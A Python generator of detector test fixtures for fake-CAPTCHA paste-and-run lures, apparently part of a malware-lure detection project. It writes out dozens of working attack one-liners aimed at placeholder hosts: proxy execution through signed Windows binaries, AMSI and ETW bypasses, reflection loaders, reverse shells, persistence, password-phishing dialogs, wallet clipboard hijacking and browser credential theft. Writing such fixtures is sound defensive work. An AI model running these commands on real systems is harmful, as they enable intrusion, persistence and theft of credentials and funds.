"""Writes tests/data/cases/tech21.jsonl: lure techniques of the 2025-2026 threat reports and of
the LOLBAS / GTFOBins / LOOBins entries that fetch or run code, which the first two technique
sweeps (make_tech19.py, make_tech20.py) did not cover or covered thinly: less common signed
Windows proxies (pcalua, forfiles, cmstp, msdt, ieexec, wmic, schtasks, odbcconf, InstallUtil,
RegAsm/RegSvcs, MSBuild, PresentationHost, mavinject, copy tools reading a web folder),
PowerShell downgrade and AMSI / ETW tampering, inline C# and reflection loaders, a download read
back and run, persistence written in one paste (Run key, scheduled task, Startup folder,
LaunchAgent, login item, systemd user unit, cron, shell start files, PROMPT_COMMAND), wallet
clipboard hijack loops, browser data theft, osascript password prompts, reverse shells over
/dev/tcp, nc, busybox, socat, openssl and script interpreters, Python exec of compressed code,
Node child_process and https.get.

    python tests/data/cases/make_tech21.py

Deterministic (fixed lists). Hosts are reserved names (.test, .invalid, .example, documentation
address ranges); every text is written here, none copied from a lure collection, another
detector's fixtures or the blind sets. Each lure text is scanned twice: in its context (the
lure page, pasted where the page says: blocked, `malicious`) and bare (`flagged`). Look-alikes
are scanned from the page a legitimate user would copy them from (`not_flagged`).

The report each technique comes from is in the comment above its list; the table is in the
helper's report (tech21, 2026-12-07 night).
"""

from __future__ import annotations

import base64
import zlib
from pathlib import Path

from casefile import Book, texts_elsewhere, write  # beside this script (tests/data/cases/)

OUT = Path(__file__).with_name("tech21.jsonl")
book = Book("t21", skip=texts_elsewhere(OUT))


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def zb64(text: str) -> str:
    return base64.b64encode(zlib.compress(text.encode(), 9)).decode()


CAPTCHA = [
    "https://verify.brambleton-gate.test/human",
    "https://cf-turnstile.example/challenge",
    "https://www.holloway-bakes.example/recipes/rye?v=2",
    "https://check.quenby.invalid/ray/7f3a",
]
UPDATE = [
    "https://browser-update.larchmont.test/chrome",
    "https://edge-fix.example/repair",
]
MAC = [
    "https://verify-mac.ashcombe.test/check",
    "https://support-macos.example/storage-fix",
    "https://www.pelham-audio.example/plugins/mac",
]
LINUX = [
    "https://verify.thistledown.test/linux",
    "https://captcha-check.example/ubuntu",
]
DEV_LURE = [
    "https://recruit.ostrava-labs.test/take-home/setup",
    "https://fix-node.example/errors/ERR_OSSL",
]
WIKI = "https://wiki.corp.example/it/runbooks"
MSDOCS = "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/"
APPLE = "https://support.apple.com/guide/terminal/welcome/mac"
ARCH = "https://wiki.archlinux.org/title/Systemd/User"
NODEDOCS = "https://nodejs.org/api/child_process.html"

DAV = "\\\\203.0.113.44@SSL\\DavWWWRoot"
DAV2 = "\\\\198.51.100.61@8080\\share"

# ---- Signed Windows middlemen that start what they are handed (LOLBAS "execute"/"proxy") --
# Unit 42 2025-08 (pcalua with WebDAV in a ClickFix chain); LOLBAS Pcalua, Forfiles, Cmstp,
# Msdt, Ieexec, Wmic, Schtasks, Odbcconf, Installutil, Regasm, Regsvcs, Msbuild,
# Presentationhost, Mavinject. The wrapper is a fake check page; the proxy starts a download.
book.lures(
    "pcalua-proxy",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        f"pcalua.exe -a {DAV}\\verify\\chk.exe  # Human check 4471",
        'pcalua -a powershell.exe -c "-w h -nop -c iex(irm https://cdn.brambleton-gate.test/v)"',
        'C:\\Windows\\System32\\pcalua.exe -a cmd.exe -c "/c curl -s -o %TEMP%\\v.cmd '
        'https://192.0.2.140/v.cmd & %TEMP%\\v.cmd"',
        'pcalua -a mshta -c "https://quenby.invalid/h.hta" & echo Verified',
    ],
)
book.lures(
    "forfiles-proxy",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'forfiles /p C:\\Windows\\System32 /m notepad.exe /c "cmd /c mshta https://brambleton-gate.test/r.hta"',
        'forfiles /p %WINDIR% /m win.ini /c "powershell -w h -c iex(iwr -useb https://198.51.100.23/x)"',
        'forfiles.exe /p c:\\windows /m explorer.exe /c "cmd /c curl -sL https://cf-turnstile.example/p -o '
        '%TEMP%\\p.exe && %TEMP%\\p.exe"',
        'forfiles /p c:\\windows\\system32 /m calc.exe /c "msiexec /q /i https://quenby.invalid/c.msi"'
        "  # Cloudflare ID 22b1",
    ],
)
book.lures(
    "cmstp-remote-profile",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        f"cmstp.exe /au {DAV2}\\vpn\\profile.inf",
        "cmstp /ni /s https://cf-turnstile.example/cfg/corpvpn.inf  # verification step 2",
        "cmd /c curl -so %TEMP%\\c.inf https://192.0.2.77/c.inf & cmstp.exe /au /s %TEMP%\\c.inf",
    ],
)
book.lures(
    "msdt-proxy",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        f"msdt.exe /cab {DAV}\\diag\\fix.diagcab",
        'msdt /id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_BrowseForFile=$(iex(irm '
        'https://brambleton-gate.test/d))i/../../../../../../../Windows/System32/mpsigstub.exe"',
        "msdt.exe /path \\\\198.51.100.7\\diag\\net.xml /af %TEMP%\\a.xml",
    ],
)
book.lures(
    "ieexec-remote",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "C:\\Windows\\Microsoft.NET\\Framework64\\v2.0.50727\\ieexec.exe https://quenby.invalid/app/v.exe",
        "ieexec.exe http://203.0.113.19/verify.exe  # I am human",
    ],
)
book.lures(
    "wmic-process-create",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'wmic process call create "powershell -w h -nop -c iex(irm https://brambleton-gate.test/a)"',
        'wmic /node:localhost process call create "mshta https://cf-turnstile.example/v.hta"',
        'wmic.exe process call create "cmd /c curl -s https://192.0.2.31/s.cmd -o %TEMP%\\s.cmd & '
        '%TEMP%\\s.cmd"',
        'wmic os get /format:"https://quenby.invalid/t.xsl"',
        'wmic process get brief /format:"\\\\203.0.113.9@SSL\\x\\s.xsl"  # verify',
    ],
)
book.lures(
    "wmi-create-from-powershell",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments "
        "@{CommandLine='mshta https://brambleton-gate.test/h.hta'}",
        "([wmiclass]'win32_process').Create('powershell -w h -c iex(irm https://198.51.100.8/p)')",
        "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList "
        "'cmd /c curl -s https://quenby.invalid/x -o %TEMP%\\x.exe & %TEMP%\\x.exe'",
    ],
)
book.lures(
    "schtasks-url-payload",
    "windows",
    "run_dialog",
    CAPTCHA + UPDATE,
    [
        'schtasks /create /sc minute /mo 15 /tn "EdgeUpdateCore" /tr "mshta https://brambleton-gate.test/u.hta" /f',
        'schtasks /create /tn OneDriveSync /sc onlogon /tr "powershell -w h -nop -c iex(irm '
        'https://192.0.2.55/s)" /f',
        'schtasks.exe /Create /SC DAILY /TN \\Microsoft\\Windows\\Maint /TR "cmd /c curl -s '
        'https://quenby.invalid/m | cmd" /RL HIGHEST /F',
        f'schtasks /create /tn ChromeHelper /tr "rundll32 {DAV}\\h.dll,Start" /sc onidle /i 5 /f',
        'schtasks /create /tn Upd /sc once /st 00:00 /tr "msiexec /q /i https://larchmont.test/u.msi"'
        " /f & schtasks /run /tn Upd",
    ],
)
book.lures(
    "odbcconf-proxy",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        f"odbcconf.exe /a {{REGSVR {DAV}\\odbc.dll}}",
        f"odbcconf -f {DAV2}\\setup.rsp",
        "cmd /c curl -so %TEMP%\\d.dll https://cf-turnstile.example/d & odbcconf /s /a {REGSVR %TEMP%\\d.dll}",
    ],
)
book.lures(
    "dotnet-installers-proxy",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "cmd /c curl -sko %TEMP%\\s.dll https://brambleton-gate.test/s.dll && "
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= "
        "/LogToConsole=false /U %TEMP%\\s.dll",
        "cmd /c curl -so %TEMP%\\r.dll https://192.0.2.61/r && "
        "%WINDIR%\\Microsoft.NET\\Framework\\v4.0.30319\\regasm.exe /U %TEMP%\\r.dll",
        f"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegSvcs.exe {DAV}\\svc.dll",
        "InstallUtil.exe /U \\\\198.51.100.15\\pub\\verify.dll",
    ],
)
book.lures(
    "msbuild-inline-task",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "cmd /c curl -s https://brambleton-gate.test/b.xml -o %TEMP%\\b.csproj && "
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe %TEMP%\\b.csproj",
        f"%windir%\\Microsoft.NET\\Framework\\v4.0.30319\\msbuild.exe {DAV}\\t\\check.proj /nologo",
        'powershell -w h -c "iwr https://quenby.invalid/t -OutFile $env:TEMP\\t.xml; & '
        '$env:WINDIR\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe $env:TEMP\\t.xml"',
    ],
)
book.lures(
    "presentationhost-xbap",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "presentationhost.exe https://cf-turnstile.example/app/verify.xbap",
        f"PresentationHost.exe -debug {DAV}\\v.xbap",
    ],
)
book.lures(
    "mavinject-dll",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'cmd /c curl -so %TEMP%\\h.dll https://brambleton-gate.test/h && for /f "tokens=2" %p in '
        "('tasklist /fi \"imagename eq explorer.exe\" /nh') do mavinject.exe %p /INJECTRUNNING %TEMP%\\h.dll",
        f"mavinject 4120 /INJECTRUNNING {DAV}\\m.dll",
    ],
)
book.lures(
    "webdav-copy-then-run",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        f"esentutl.exe /y {DAV}\\p.exe /d %TEMP%\\p.exe /o & start %TEMP%\\p.exe",
        f"expand {DAV2}\\pkg.cab -F:* %TEMP%\\pk & %TEMP%\\pk\\setup.exe",
        f"extrac32 /y /c {DAV}\\up.cab %TEMP%\\up.exe && %TEMP%\\up.exe",
        f"replace {DAV}\\svc.exe %TEMP% /A & %TEMP%\\svc.exe",
        f"cmd /c copy /y {DAV2}\\v.exe %PUBLIC%\\v.exe & %PUBLIC%\\v.exe",
        f"xcopy /y {DAV}\\v.hta %TEMP%\\ & mshta %TEMP%\\v.hta",
    ],
)
book.lures(
    "mshta-inline-script",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'mshta vbscript:CreateObject("WScript.Shell").Run("powershell -w h -c iex(irm '
        'https://brambleton-gate.test/v)",0)(window.close)',
        "mshta \"javascript:a=GetObject('script:https://192.0.2.93/s.sct').Exec();close()\"",
        'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""cmd /c curl -s '
        'https://quenby.invalid/c|cmd"",0:close")',
    ],
)
book.lures(
    "ftp-script-fetch",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "cmd /c echo open 203.0.113.71>%TEMP%\\f&echo anonymous>>%TEMP%\\f&echo get v.exe "
        "%TEMP%\\v.exe>>%TEMP%\\f&echo bye>>%TEMP%\\f&ftp -i -s:%TEMP%\\f&%TEMP%\\v.exe",
    ],
)
book.lures(
    "certreq-fetch",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "cmd /c certreq -Post -config https://cf-turnstile.example/p C:\\Windows\\win.ini "
        "%TEMP%\\p.ps1 & powershell -ep bypass -f %TEMP%\\p.ps1",
    ],
)

# ---- PowerShell protections switched off before the fetch ----------------------------------
# Version 2 downgrade (no AMSI, no script block logging); AmsiUtils amsiInitFailed and
# AmsiScanBuffer patching; the PowerShell ETW provider switched off; script block logging
# switched off in the registry. Seen ahead of ClickFix stagers (2025 Lumma / NetSupport chains,
# e.g. eSentire and Kroll write-ups) and in every public bypass list.
book.lures(
    "ps-downgrade-v2",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'powershell -version 2 -nop -w h -c "iex(New-Object Net.WebClient).DownloadString('
        "'https://brambleton-gate.test/a')\"",
        'powershell.exe -v 2 -ep bypass -c "IEX ((new-object net.webclient).downloadstring('
        "'http://192.0.2.210/s'))\"",
        'cmd /c powershell -Version 2.0 -NoProfile -WindowStyle Hidden -Command "iwr https://quenby.invalid/x'
        ' -OutFile $env:TEMP\\x.exe; & $env:TEMP\\x.exe"',
    ],
)
book.lures(
    "amsi-tamper-then-fetch",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed',"
        "'NonPublic,Static').SetValue($null,$true); iex (irm https://brambleton-gate.test/p)",
        "$a=[Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUtils');"
        "$a.GetField('am'+'siInitFailed','NonPublic,Static').SetValue($null,$true);"
        "IEX(New-Object Net.WebClient).DownloadString('https://198.51.100.33/r')",
        "powershell -w h -c \"$t=[Ref].Assembly.GetTypes()|?{$_.Name -like '*siUtils'};"
        "$f=$t.GetFields('NonPublic,Static')|?{$_.Name -like '*Failed'};$f.SetValue($null,$true);"
        'iex(irm https://quenby.invalid/s)"',
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiContext',"
        "'NonPublic,Static').SetValue($null,[IntPtr]::Zero); irm https://cf-turnstile.example/x | iex",
    ],
)
book.lures(
    "amsi-tamper-alone",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed',"
        "'NonPublic,Static').SetValue($null,$true)",
        "$w='System.Management.Automation.A'+'msiUtils';[Ref].Assembly.GetType($w).GetField("
        "'amsiInit'+'Failed','NonPublic,Static').SetValue($null,$true)",
    ],
)
book.lures(
    "etw-tamper",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "[Reflection.Assembly]::LoadWithPartialName('System.Core').GetType("
        "'System.Diagnostics.Eventing.EventProvider').GetField('m_enabled','NonPublic,Instance')"
        ".SetValue([Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider')"
        ".GetField('etwProvider','NonPublic,Static').GetValue($null),0); iex(irm https://brambleton-gate.test/e)",
        "$p=[Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider').GetField("
        "'etwProvider','NonPublic,Static');$e=New-Object System.Diagnostics.Eventing.EventProvider "
        "-ArgumentList @([Guid]::NewGuid());$p.SetValue($null,$e)",
    ],
)
book.lures(
    "scriptblock-logging-off",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "New-ItemProperty -Path HKCU:\\Software\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging"
        " -Name EnableScriptBlockLogging -Value 0 -Force; iex(irm https://198.51.100.12/l)",
        "$s=[Ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings',"
        "'NonPublic,Static').GetValue($null);$s['ScriptBlockLogging']['EnableScriptBlockLogging']=0;"
        "iex(irm https://quenby.invalid/g)",
    ],
)

# ---- Code compiled or loaded in memory -----------------------------------------------------
# Add-Type with inline C# calling VirtualAlloc/CreateThread, reflection loading of downloaded
# bytes (Assembly.Load + EntryPoint/Invoke), a download read back with ReadAllText /
# Get-Content -Raw and run (Huntress and Microsoft 2025 ClickFix write-ups: in-memory .NET
# loaders behind the fetch; stego loaders of tech20 are a kin).
book.lures(
    "add-type-native-calls",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "Add-Type -TypeDefinition 'using System;using System.Runtime.InteropServices;public class K{"
        '[DllImport("kernel32")]public static extern IntPtr VirtualAlloc(IntPtr a,uint s,uint t,uint p);'
        '[DllImport("kernel32")]public static extern IntPtr CreateThread(IntPtr a,uint s,IntPtr f,IntPtr p,'
        "uint c,IntPtr i);}';$b=(iwr https://brambleton-gate.test/sc -UseBasicParsing).Content",
        "$c=(New-Object Net.WebClient).DownloadString('https://192.0.2.88/l.cs');Add-Type -TypeDefinition $c"
        " -Language CSharp;[L]::Run()",
        "Add-Type -Language CSharp -TypeDefinition (irm https://quenby.invalid/t.cs); [T.M]::Go()",
    ],
)
book.lures(
    "reflection-load-download",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "$b=(New-Object Net.WebClient).DownloadData('https://brambleton-gate.test/a.bin');"
        "[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,(,[string[]]@()))",
        "[System.Reflection.Assembly]::Load((iwr https://198.51.100.40/l.dll -UseBasicParsing).Content)"
        ".GetType('L.P').GetMethod('Main').Invoke($null,$null)",
        "$d=[Convert]::FromBase64String((irm https://quenby.invalid/b64));"
        "[AppDomain]::CurrentDomain.Load($d).EntryPoint.Invoke($null,$null)",
        "$r=Invoke-WebRequest https://cf-turnstile.example/m -UseBasicParsing;"
        "$a=[Reflection.Assembly]::Load([byte[]]$r.Content);$a.GetTypes()[0]::Start()",
    ],
)
book.lures(
    "download-read-back-run",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "iwr https://brambleton-gate.test/a.txt -OutFile $env:TEMP\\a.txt; "
        'iex ([IO.File]::ReadAllText("$env:TEMP\\a.txt"))',
        "Invoke-WebRequest -Uri https://192.0.2.99/s -OutFile $env:APPDATA\\s.log; "
        "Get-Content $env:APPDATA\\s.log -Raw | iex",
        "curl.exe -s https://quenby.invalid/c -o $env:TEMP\\c.dat; "
        "& ([scriptblock]::Create((gc $env:TEMP\\c.dat -Raw)))",
        "Start-BitsTransfer https://cf-turnstile.example/z $env:TEMP\\z.txt; "
        'iex ([System.IO.File]::ReadAllText("$env:TEMP\\z.txt"))',
    ],
)
book.lures(
    "ps-tcp-reverse-shell",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "$c=New-Object System.Net.Sockets.TCPClient('198.51.100.44',443);$s=$c.GetStream();"
        "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object "
        "Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);"
        "$x=([text.encoding]::ASCII).GetBytes($o);$s.Write($x,0,$x.Length)}",
        "powershell -nop -w h -c \"$t=[Net.Sockets.TcpClient]::new('203.0.113.52',8443);"
        "$n=$t.GetStream();$r=[IO.StreamReader]::new($n);$w=[IO.StreamWriter]::new($n);"
        '$w.AutoFlush=1;while($l=$r.ReadLine()){$w.WriteLine((iex $l|Out-String))}"',
    ],
)
book.lures(
    "com-xmlhttp-run",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "$h=New-Object -ComObject Msxml2.XMLHTTP;$h.open('GET','https://brambleton-gate.test/c',$false);"
        "$h.send();iex $h.responseText",
        "$x=New-Object -Com WinHttp.WinHttpRequest.5.1;$x.Open('GET','https://192.0.2.17/w',0);"
        "$x.Send();& ([scriptblock]::Create($x.ResponseText))",
    ],
)

# ---- Persistence written in the same paste ---------------------------------------------------
# Run keys, scheduled tasks from PowerShell, the Startup folder (Windows); LaunchAgents,
# login items, LoginHook (macOS: AMOS/Odyssey and the 2025 Atomic backdoor add persistence in
# the pasted chain); systemd user units, cron, shell start files, PROMPT_COMMAND, SSH keys
# (Linux). Each one fetches or starts a stranger's code on every log-in.
book.lures(
    "run-key-persistence",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync /t REG_SZ /d "
        '"mshta https://brambleton-gate.test/s.hta" /f',
        'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v Updater /d '
        '"powershell -w h -nop -c iex(irm https://198.51.100.70/u)" /f',
        "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v x /d "
        f'"rundll32 {DAV}\\r.dll,Start" /f',
        "cmd /c curl -so %APPDATA%\\svc.exe https://quenby.invalid/svc && reg add "
        "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v SvcHost /d %APPDATA%\\svc.exe /f"
        " && %APPDATA%\\svc.exe",
    ],
)
book.lures(
    "run-key-persistence-ps",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name "
        "'EdgeUpd' -Value 'powershell -w h -c \"iex(irm https://brambleton-gate.test/e)\"'",
        "New-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name Sync "
        '-Value "mshta https://192.0.2.133/s.hta" -PropertyType String -Force',
        "iwr https://quenby.invalid/h.exe -OutFile $env:APPDATA\\h.exe; Set-ItemProperty "
        "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name Helper -Value $env:APPDATA\\h.exe;"
        " Start-Process $env:APPDATA\\h.exe",
    ],
)
book.lures(
    "scheduled-task-ps",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskUA' -Trigger (New-ScheduledTaskTrigger"
        " -AtLogOn) -Action (New-ScheduledTaskAction -Execute powershell.exe -Argument '-w h -c "
        "iex(irm https://brambleton-gate.test/t)') -Force",
        "$a=New-ScheduledTaskAction -Execute 'mshta.exe' -Argument 'https://198.51.100.27/k.hta';"
        "$t=New-ScheduledTaskTrigger -Once -At (Get-Date) -RepetitionInterval (New-TimeSpan -Minutes 10);"
        "Register-ScheduledTask Sync -Action $a -Trigger $t",
    ],
)
book.lures(
    "startup-folder-drop",
    "windows",
    "terminal",
    CAPTCHA,
    [
        'iwr https://brambleton-gate.test/u.vbs -OutFile "$env:APPDATA\\Microsoft\\Windows\\Start Menu'
        '\\Programs\\Startup\\update.vbs"',
        'cmd /c curl -s -o "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\sync.cmd" '
        "https://192.0.2.141/s.cmd",
        "(New-Object Net.WebClient).DownloadFile('https://quenby.invalid/l.lnk',"
        "[Environment]::GetFolderPath('Startup')+'\\OneDrive.lnk')",
    ],
)
book.lures(
    "launchagent-one-paste",
    "macos",
    "terminal",
    MAC,
    [
        "mkdir -p ~/Library/LaunchAgents && curl -fsSL https://verify-mac.ashcombe.test/a.plist -o "
        "~/Library/LaunchAgents/com.apple.softwareupd.plist && launchctl load -w "
        "~/Library/LaunchAgents/com.apple.softwareupd.plist",
        "curl -so /Users/Shared/.agent https://192.0.2.150/agent && chmod +x /Users/Shared/.agent && "
        "launchctl submit -l com.google.keystone.agent -- /Users/Shared/.agent",
        "cat > ~/Library/LaunchAgents/com.adobe.sync.plist <<'EOF'\n<?xml version=\"1.0\"?><plist "
        'version="1.0"><dict><key>Label</key><string>com.adobe.sync</string><key>ProgramArguments'
        "</key><array><string>/bin/sh</string><string>-c</string><string>curl -s "
        "https://support-macos.example/s | sh</string></array><key>RunAtLoad</key><true/></dict>"
        "</plist>\nEOF\nlaunchctl bootstrap gui/$(id -u) ~/Library/LaunchAgents/com.adobe.sync.plist",
        "curl -fsSL https://www.pelham-audio.example/p -o /tmp/p.plist && cp /tmp/p.plist "
        "~/Library/LaunchAgents/ && launchctl bootstrap gui/$UID ~/Library/LaunchAgents/p.plist",
    ],
)
book.lures(
    "mac-login-item",
    "macos",
    "terminal",
    MAC,
    [
        "curl -so /tmp/.h.zip https://verify-mac.ashcombe.test/h.zip && ditto -x -k /tmp/.h.zip "
        '~/Library/.helper && osascript -e \'tell application "System Events" to make login item at '
        'end with properties {path:"~/Library/.helper/Helper.app", hidden:true}\'',
        "sudo defaults write com.apple.loginwindow LoginHook /Users/Shared/.lh.sh && curl -so "
        "/Users/Shared/.lh.sh https://198.51.100.81/lh && chmod +x /Users/Shared/.lh.sh",
        'osascript -e \'tell application "System Events" to make new login item with properties '
        '{path:"/Users/Shared/Update.app", hidden:true}\' && curl -fsSL '
        "https://support-macos.example/u.zip | ditto -x -k - /Users/Shared",
    ],
)
book.lures(
    "osascript-password-prompt",
    "macos",
    "terminal",
    MAC,
    [
        "osascript -e 'set p to text returned of (display dialog \"System Preferences needs your "
        'password to continue." default answer "" with hidden answer with icon caution)\' -e \'do '
        'shell script "curl -s -d p=" & quoted form of p & " https://verify-mac.ashcombe.test/c"\'',
        "p=$(osascript -e 'text returned of (display dialog \"macOS wants to make changes. Enter your "
        'password to allow this." default answer "" with hidden answer buttons {"OK"} default button '
        '1 with title "System Settings")\'); curl -s -X POST -d "$p" https://192.0.2.160/k',
        'osascript -e \'display dialog "To finish the update, enter your Mac password:" default '
        'answer "" with hidden answer\' | cut -d: -f3 > /tmp/.p && curl -F f=@/tmp/.p '
        "https://support-macos.example/u",
    ],
)
book.lures(
    "systemd-user-persistence",
    "linux",
    "terminal",
    LINUX,
    [
        "mkdir -p ~/.config/systemd/user && curl -so ~/.config/systemd/user/dbus-helper.service "
        "https://verify.thistledown.test/s && systemctl --user enable --now dbus-helper.service",
        'printf \'[Service]\\nExecStart=/bin/sh -c "curl -s http://203.0.113.88/b | sh"\\nRestart=always'
        "\\n[Install]\\nWantedBy=default.target\\n' > ~/.config/systemd/user/gvfs-sync.service && "
        "systemctl --user daemon-reload && systemctl --user enable --now gvfs-sync",
        "wget -qO ~/.local/bin/tracker-extract https://captcha-check.example/t && chmod +x "
        "~/.local/bin/tracker-extract && systemd-run --user --unit=tracker-x ~/.local/bin/tracker-extract",
    ],
)
book.lures(
    "cron-persistence-more",
    "linux",
    "terminal",
    LINUX,
    [
        "echo '@reboot wget -qO- http://198.51.100.90/r | bash' >> /var/spool/cron/crontabs/$USER",
        'crontab -l | { cat; echo "*/5 * * * * curl -fsSL https://verify.thistledown.test/c | sh '
        '>/dev/null 2>&1"; } | crontab -',
        "echo '* * * * * root curl -s https://captcha-check.example/k|bash' | sudo tee /etc/cron.d/kupd",
    ],
)
book.lures(
    "shell-startup-persistence",
    "linux",
    "terminal",
    LINUX,
    [
        "echo 'export PROMPT_COMMAND=\"curl -s http://192.0.2.171/b | bash >/dev/null 2>&1\"' >> ~/.bashrc",
        "echo '(curl -fsSL https://verify.thistledown.test/z | sh >/dev/null 2>&1 &)' >> ~/.zshrc",
        "printf '%s\\n' 'nohup wget -qO- https://captcha-check.example/p | bash &' >> ~/.profile",
        'echo \'alias sudo="sudo sh -c \\"curl -s https://203.0.113.94/s|sh\\";sudo"\' >> ~/.bashrc',
        'echo \'PROMPT_COMMAND="$PROMPT_COMMAND; bash -c \\"bash -i >& /dev/tcp/198.51.100.5/9001 0>&1\\" '
        "&\"' >> ~/.bashrc",
    ],
)
book.lures(
    "shell-startup-persistence-mac",
    "macos",
    "terminal",
    MAC,
    [
        "echo 'curl -s https://verify-mac.ashcombe.test/z | zsh &>/dev/null &!' >> ~/.zshenv",
        'echo \'osascript -e "do shell script \\"curl -s https://198.51.100.3/x | sh\\""\' >> ~/.zprofile',
    ],
)
book.lures(
    "ssh-key-plant",
    "linux",
    "terminal",
    LINUX,
    [
        "mkdir -p ~/.ssh && curl -s https://verify.thistledown.test/k.pub >> ~/.ssh/authorized_keys",
        "wget -qO- http://192.0.2.180/key | tee -a ~/.ssh/authorized_keys >/dev/null && chmod 600 "
        "~/.ssh/authorized_keys",
    ],
)

# ---- Clipboard hijack of wallet addresses and browser data theft -----------------------------
# Clipper loops (2025 reports on clipboard-stealers delivered via fake CAPTCHA, e.g. the
# "MassJacker"/CryptoClipper families and StealC); browser "Login Data"/cookie theft one-liners
# (Odyssey / AMOS copy Chrome and Firefox profiles and the keychain, then curl them out).
book.lures(
    "wallet-clipboard-hijack",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "while($true){$c=Get-Clipboard;if($c -match '^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$'){"
        "Set-Clipboard 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4'};Start-Sleep -m 500}",
        "Start-Job {while(1){$v=Get-Clipboard;if($v -match '^0x[a-fA-F0-9]{40}$'){Set-Clipboard "
        "'0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'};sleep 1}}",
        'powershell -w h -c "Add-Type -A System.Windows.Forms;while(1){$t=[Windows.Forms.Clipboard]::'
        "GetText();if($t -match '^T[1-9A-HJ-NP-Za-km-z]{33}$'){[Windows.Forms.Clipboard]::SetText("
        "'TLa2f6VPqDgRE67v1736s7bJ8Ray5wYjU7')};sleep -m 300}\"",
    ],
)
book.lures(
    "wallet-clipboard-hijack-nix",
    "macos",
    "terminal",
    MAC,
    [
        "while true; do pbpaste | grep -Eq '^0x[a-fA-F0-9]{40}$' && printf "
        "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed | pbcopy; sleep 1; done &",
        "nohup sh -c 'while :; do a=$(pbpaste); case $a in bc1*) echo -n "
        "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq | pbcopy;; esac; sleep 1; done' >/dev/null 2>&1 &",
    ],
)
book.lures(
    "browser-data-theft",
    "windows",
    "terminal",
    CAPTCHA,
    [
        'Compress-Archive "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data","$env:'
        'LOCALAPPDATA\\Google\\Chrome\\User Data\\Local State" $env:TEMP\\l.zip -Force; curl.exe -F '
        "f=@$env:TEMP\\l.zip https://brambleton-gate.test/up",
        'cmd /c copy "%LOCALAPPDATA%\\Microsoft\\Edge\\User Data\\Default\\Network\\Cookies" %TEMP%\\c'
        " & curl -F d=@%TEMP%\\c https://192.0.2.190/c",
        "Get-ChildItem $env:APPDATA\\Mozilla\\Firefox\\Profiles\\*\\logins.json | % {Invoke-RestMethod "
        "https://quenby.invalid/l -Method Post -InFile $_.FullName}",
    ],
)
book.lures(
    "browser-data-theft-mac",
    "macos",
    "terminal",
    MAC,
    [
        "cd ~/Library/Application\\ Support/Google/Chrome/Default && zip -qr /tmp/.c.zip Cookies "
